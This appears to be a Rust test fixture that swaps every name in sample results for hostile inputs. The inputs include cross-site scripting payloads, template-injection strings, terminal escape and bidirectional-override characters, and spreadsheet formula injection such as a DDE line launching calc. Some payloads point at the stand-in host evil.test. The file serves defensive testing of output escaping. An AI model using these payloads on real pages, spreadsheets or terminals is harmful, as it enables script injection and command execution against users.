//! Names that attack pages, spreadsheets and terminals, and results full of them.

use entrant_data::result::Results;
use serde_json::Value;

use crate::fixture;

/// Names to put everywhere.
pub const PAYLOADS: &[&str] = &[
    "</script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<!--",
    "-->",
    "<!-- <script>",
    "]]>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><b>",
    "</noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.test>",
    "<form action=//evil.test><input name=q>",
    "<object data=x>",
    "<embed src=x>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    "\" autofocus onfocus=alert(1) x=\"",
    "' style='background:red",
    "&lt;b&gt;twice&lt;/b&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "{{ 7*7 }}",
    "{% for x in y %}",
    "${alert(1)}",
    "\\u003cscript\\u003e",
    "\\\"};alert(1);//",
    "right \u{202e}to left",
    "isolate \u{2066}x\u{2069}",
    "nul \0 byte",
    "line \u{2028} separator",
    "paragraph \u{2029} separator",
    "escape \u{1b}]0;owned\u{7}",
    "bell \u{7} and \u{9b}31m",
    "zero\u{200b}width\u{feff}",
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "=HYPERLINK(\"x\")",
    "__proto__",
    "constructor",
    "NaN",
    "50% off & more",
    "小米 Ελλάδα עברית",
];

/// How a name shows on a page or in a terminal.
pub fn shown(name: &str) -> String {
    let hidden = |c: char| {
        c.is_control()
            || ('\u{2028}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c)
            || matches!(c, '\u{200b}' | '\u{feff}')
    };
    let letter = |c: char| {
        if hidden(c) {
            c.escape_unicode().to_string()
        } else {
            c.to_string()
        }
    };
    name.chars().map(letter).collect()
}

/// The sample results with every name and note replaced: the same name everywhere by the same
/// payload and a number, so that what belongs together still does.
pub fn with_hostile_names(payloads: &[&str]) -> Results {
    let mut json = serde_json::to_value(fixture::results()).expect("results serialise");
    let mut seen = Vec::new();
    replace(&mut json, "", payloads, &mut seen);
    serde_json::from_value(json).expect("results with other names are results")
}

/// Fields whose words mean something to the program.
const WORDS: [&str; 12] = [
    "quarter",
    "before",
    "missing",
    "kind",
    "status",
    "mark",
    "identification",
    "level",
    "schema",
    "verdict",
    "currency",
    "fingerprint",
];

fn replace(value: &mut Value, key: &str, payloads: &[&str], seen: &mut Vec<String>) {
    match value {
        Value::String(text) if !WORDS.contains(&key) && !text.is_empty() && text != "outside" => {
            *text = substitute(text, payloads, seen);
        }
        Value::Array(all) => all.iter_mut().for_each(|v| replace(v, key, payloads, seen)),
        Value::Object(all) => {
            for (name, v) in all.iter_mut() {
                replace(v, name, payloads, seen);
            }
        }
        _ => {}
    }
}

fn substitute(text: &str, payloads: &[&str], seen: &mut Vec<String>) -> String {
    let i = seen.iter().position(|s| s == text).unwrap_or_else(|| {
        seen.push(text.to_string());
        seen.len() - 1
    });
    format!("{} {i}", payloads[i % payloads.len()])
}
